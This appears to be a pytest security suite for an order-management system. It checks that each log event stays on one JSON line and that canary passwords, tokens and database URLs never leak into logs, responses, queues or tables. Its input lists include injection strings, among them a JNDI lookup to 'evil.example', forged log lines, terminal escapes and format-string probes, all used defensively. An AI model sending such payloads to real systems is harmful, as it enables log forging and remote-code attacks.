"""What is written down: one event is one line (G08), and no secret stands in any of it (G09)."""

import contextlib
import io
import json
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest
import redis
import structlog
from _pytest.logging import LogCaptureHandler
from django.apps import apps
from django.db import connection
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from brokers.models import Broker
from oms.journal.models import Event
from oms.runtime import logs
from oms.runtime.redis import client as redis_client
from oms.supervisor.programs import gateway, programs
from tests.security.house import ROWS, House, Program, address
from tests.web import BUY


@pytest.fixture
def sink() -> Iterator[io.StringIO]:
    """Where logs go, as production writes them."""
    text = io.StringIO()
    with contextlib.redirect_stderr(text):
        logs.configure(json_lines=True, secrets=["canary-of-the-database", "canary-of-redis"])
        yield text
    logs.configure(json_lines=False)


# ---------------------------------------------------------------- G08

HOSTILE = [
    "two\nlines", "carriage\rreturn", "\x1b[2J\x1b[31mred", "${jndi:ldap://evil.example/a}", "%(name)s %n {0.__class__}", "\u2028\u2029\x85",
    '"}\n{"event":"forged"}', "\x00", "\ud800", "\u202etxt.exe", "x" * 1_000_000, "a\n" * 10_000,
]  # fmt: skip


def told(sink: io.StringIO) -> list[dict[str, Any]]:
    """Return the events written since the last time."""
    text = sink.getvalue()
    sink.seek(0)
    sink.truncate()
    return [json.loads(line) for line in text.splitlines()]


def write(value: str) -> int:
    """Log a value in every way that logs are written; return the number of events."""
    root = (
        logging.getLogger()
    )  # the test runner's own ears go: what they hear it must be able to send between processes
    root.handlers[:] = [h for h in root.handlers if not isinstance(h, LogCaptureHandler)]
    log, plain = structlog.get_logger("test"), logging.getLogger("django.request")
    log.warning("event", user_agent=value, nested={"deep": [value, {value[:50]: value}]})
    log.warning(value)
    plain.warning("Not Found: %s", value)
    plain.warning(value.replace("%", "%%"))
    try:
        raise ValueError(value)
    except ValueError:
        log.exception("failed", path=value)
        plain.exception("failed at %s", value)
    return 6


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_g08_one_event_is_one_line(value: str, sink: io.StringIO) -> None:
    count = write(value)
    events = told(sink)
    assert len(events) == count
    assert all(e["event"] for e in events)
    assert sum(len(json.dumps(e)) for e in events) < 400_000


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(codec=None), min_size=1))
def test_g08_one_event_is_one_line_whatever_it_holds(sink: io.StringIO, value: str) -> None:
    assert len(told(sink)) == 0
    assert write(value) == len(told(sink))


def test_g08_requests_with_hostile_headers_and_paths_log_one_line_each(house: House, sink: io.StringIO) -> None:
    told(sink)
    for agent in ("a\nb", "\x1b[31m", "${jndi:ldap://x}", "x" * 100_000):
        house.owner.get("nothing/%0a%0d{}".format("x" * 50), **{"User-Agent": agent, "X-Correlation-ID": "a\nb"})
    events = told(sink)
    assert [e["event"].partition(":")[0] for e in events] == ["Not Found"] * 4


# ---------------------------------------------------------------- G09


class Canaries:
    """One secret of each kind, and where it was put."""

    password = "canary-of-a-password-9f31"
    broker = "canary-of-the-broker-77ab"
    database = "canary-of-the-database"
    redis = "canary-of-redis"


def found_in(text: str, *more: str) -> list[str]:
    words = [v for k, v in vars(Canaries).items() if not k.startswith("_") and isinstance(v, str)]
    return [w for w in (*words, *more) if w in text and w != Canaries.__doc__]


def test_g09_no_secret_stands_in_any_sink(house: House, sink: io.StringIO, monkeypatch: pytest.MonkeyPatch) -> None:
    from orders import queries as orders
    from portfolio import operations as portfolio

    told(sink)
    tokens = [house.owner.token, *(c.token for c in house.clients.values())]
    admin = house.people["admin"]
    admin.set_password(Canaries.password)
    admin.is_staff = admin.is_superuser = True
    admin.save()
    answers: list[str] = []

    # A broker with a secret, added over the API and by the operation, wrong and right.
    secret = {"port": 7001, "host": "127.0.0.1", "key": Canaries.broker}
    for settings_ in (secret, secret | {"host": "evil.example"}, secret | {"venue": 5}, secret | {"port": "x"}):
        body = {"code": "SECRET", "adapter": "simulated", "settings": settings_}
        answers.append(house.clients["admin"].post("brokers", body).content.decode())
    portfolio.add_broker(
        code="SECRET", adapter="simulated", settings=secret, actor=house.desk.actor(admin), at=house.desk.later(1)
    )
    row = Broker.objects.get(code="SECRET")
    row.name = "edited in the admin"
    row.save()

    # Log-ins, right and wrong; tokens in places where they don't belong.
    browser = Client(raise_request_exception=False)
    for name, password in (("admin-person", Canaries.password), (Canaries.password, "x"), ("alice", Canaries.password)):
        answers.append(browser.post("/login/", {"username": name, "password": password}).content.decode())
    browser.force_login(admin)
    Program(house.owner.token + "x").get("orders")
    house.owner.post("orders", b'{"account": "' + house.owner.token.encode())

    # Drivers that tell their addresses, and a view that fails on the way.
    log = structlog.get_logger("test")
    for connect in (
        lambda: psycopg.connect(f"postgresql://oms:{Canaries.database}@127.0.0.1:1/x", connect_timeout=1),
        lambda: redis.Redis.from_url(f"redis://:{Canaries.redis}@127.0.0.1:1/0").ping(),
    ):
        try:
            connect()
        except (psycopg.Error, redis.RedisError) as error:
            log.exception("away", url=f"postgresql://oms:{Canaries.database}@db/x", error=str(error))
    with monkeypatch.context() as broken:
        message = f"Token {house.owner.token} password={Canaries.password} postgresql://oms:{Canaries.database}@db/x"
        broken.setattr(orders, "list_orders", lambda *_, **__: (_ for _ in ()).throw(RuntimeError(message)))
        failed = house.owner.get("orders")
    assert (failed.status_code, failed.json()["code"]) == (500, "internal_error")
    answers.append(failed.content.decode())

    # Every answer to everybody, and every page of the admin that speaks of brokers and people.
    for (method, route), row_ in ROWS.items():
        if method == "GET":
            for program in (house.owner, *house.clients.values()):
                given = program.get(address(route, house.things, row_.place))
                answers.append(given.content.decode())
    pages = (
        "/admin/brokers/broker/", f"/admin/brokers/broker/{row.pk}/change/", f"/admin/brokers/broker/{row.pk}/history/",
        f"/admin/auth/user/{admin.pk}/change/", "/admin/knox/authtoken/", "/admin/journal/event/", "/api/schema/",
    )  # fmt: skip
    answers += [browser.get(path).content.decode() for path in pages]
    for answer in answers:
        assert found_in(answer, *tokens) == []

    # What travels through Redis, what the journal keeps, what the log says.
    house.owner.post("orders", BUY | {"note": "x"})
    queued = [m.decode() for m in redis_client().lrange("celery", 0, -1)]
    assert found_in("".join(queued), *tokens) == []
    assert found_in("".join(Event.objects.values_list("body", flat=True)), *tokens) == []
    written = sink.getvalue()
    assert "away" in written
    assert "request_failed" in written
    assert found_in(written, *tokens) == []

    # Tables: passwords and tokens as hashes; a broker's settings stand in its own row alone.
    for model in apps.get_models():
        if model is Broker:
            continue
        with connection.cursor() as cursor:
            cursor.execute(f'SELECT t::text FROM "{model._meta.db_table}" t')
            assert found_in("".join(r[0] for r in cursor), *tokens) == [], model._meta.db_table


def test_g09_no_command_line_holds_an_address_with_a_password(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", f"postgresql://oms:{Canaries.database}@127.0.0.1:1/oms")
    monkeypatch.setenv("REDIS_URL", f"redis://:{Canaries.redis}@127.0.0.1:1/0")
    for program in (*programs("127.0.0.1", 8000, tmp_path, market=True), gateway("PRIME")):
        words = " ".join(program.command)
        assert found_in(words) == []
        assert "://" not in words


@pytest.mark.parametrize(
    "text",
    [
        "Authorization: Token canary-canary-canary-1", "bearer canary-canary-canary-1", "postgresql://u:canary-canary-canary-1@h/d",
        "password=canary-canary-canary-1", "{'api_key': 'canary-canary-canary-1'}", '{"client_secret":"canary-canary-canary-1"}',
        "Cookie: sessionid=canary-canary-canary-1; a=b",
    ],
)  # fmt: skip
def test_g09_a_secret_is_known_by_what_stands_before_it(text: str) -> None:
    assert "canary" not in logs.redact(text)
    assert "[redacted]" in logs.redact(text)
